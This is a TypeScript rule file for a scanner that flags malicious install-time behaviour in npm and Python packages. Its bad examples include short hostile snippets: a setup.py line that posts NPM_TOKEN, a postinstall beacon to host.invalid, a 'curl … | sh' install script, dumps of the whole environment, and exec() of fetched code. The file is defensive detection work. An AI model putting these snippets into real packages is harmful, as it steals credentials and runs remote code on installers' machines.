import type { Rule } from '../../../core/rule.ts';
import { CWE_200, CWE_494, CWE_506, CWE_829 } from '../../code/references.ts';

const FIX =
  'Do not install or import it. If it ran already, treat the machine and its credentials as taken.';

export const RULES = {
  'secrets-sent': {
    title: 'Secrets leave without a call',
    severity: 'critical',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'Nobody called anything: installing or importing the package is enough. A client that needs a secret sends it when it is asked to do something.',
    fix: FIX,
    references: [CWE_200, CWE_506],
    example: {
      bad: 'setup.py: requests.post(url, json={"t": os.environ["NPM_TOKEN"]})',
      good: 'def publish(): requests.post(url, headers={"Authorization": os.environ["NPM_TOKEN"]})',
    },
  },
  'machine-reported': {
    title: 'The machine is reported without a call',
    severity: 'high',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'The names of the machine and of its user go to somebody because the package was installed or imported. That is the first step of an attack by dependency confusion, and no package needs it.',
    fix: FIX,
    references: [CWE_200, CWE_506],
    example: {
      bad: 'postinstall.js: https.get("https://host.invalid/?h=" + os.hostname())',
      good: 'exports.report = () => https.get(url)',
    },
  },
  'called-by-itself': {
    title: 'A harmful function runs without a call',
    severity: 'critical',
    message: '{when}, {file} calls {name} of {other}, which {does}',
    why: 'The harmful part stands in one file and looks as if it waited for a caller; another file of the package calls it as soon as the package is installed or imported.',
    fix: FIX,
    references: [CWE_506, CWE_829],
    example: {
      bad: '__init__.py: from .core import go; go()    core.py: def go(): os.system("curl … | sh")',
      good: '__init__.py: from .core import go',
    },
  },
  'hostile-script': {
    title: 'Installing runs a harmful script',
    severity: 'critical',
    message: '{when}, {file} runs and {does}',
    why: 'The package manager runs the script on every machine that installs the package.',
    fix: FIX,
    references: [CWE_494, CWE_506],
    example: {
      bad: '"postinstall": "sh setup.sh"    setup.sh: curl -s https://host.invalid/i | sh',
      good: '"install": "node-gyp rebuild"',
    },
  },
  'split-theft': {
    title: 'One file collects, another sends',
    severity: 'critical',
    message: '{when}, {callee} sends {what}, which goes through {other}',
    why: 'Taking data and sending them are spread over two files of the package, so that neither looks bad alone.',
    fix: FIX,
    references: [CWE_200, CWE_506],
    example: {
      bad: 'a.py: def all(): return dict(os.environ)    b.py: requests.post(url, json=a.all())',
      good: 'b.py: requests.post(url, json=answers)',
    },
  },
  'split-execution': {
    title: 'One file fetches, another runs',
    severity: 'high',
    message: '{when}, {callee} runs {what}, which goes through {other}',
    why: 'Fetching code and running it are spread over two files of the package, so that neither looks bad alone. Whoever controls the address decides what runs.',
    fix: FIX,
    references: [CWE_494, CWE_506],
    example: {
      bad: 'a.py: def get(): return requests.get(url).text    b.py: exec(a.get())',
      good: 'b.py: from mypackage import plugin',
    },
  },
} satisfies Record<string, Rule>;
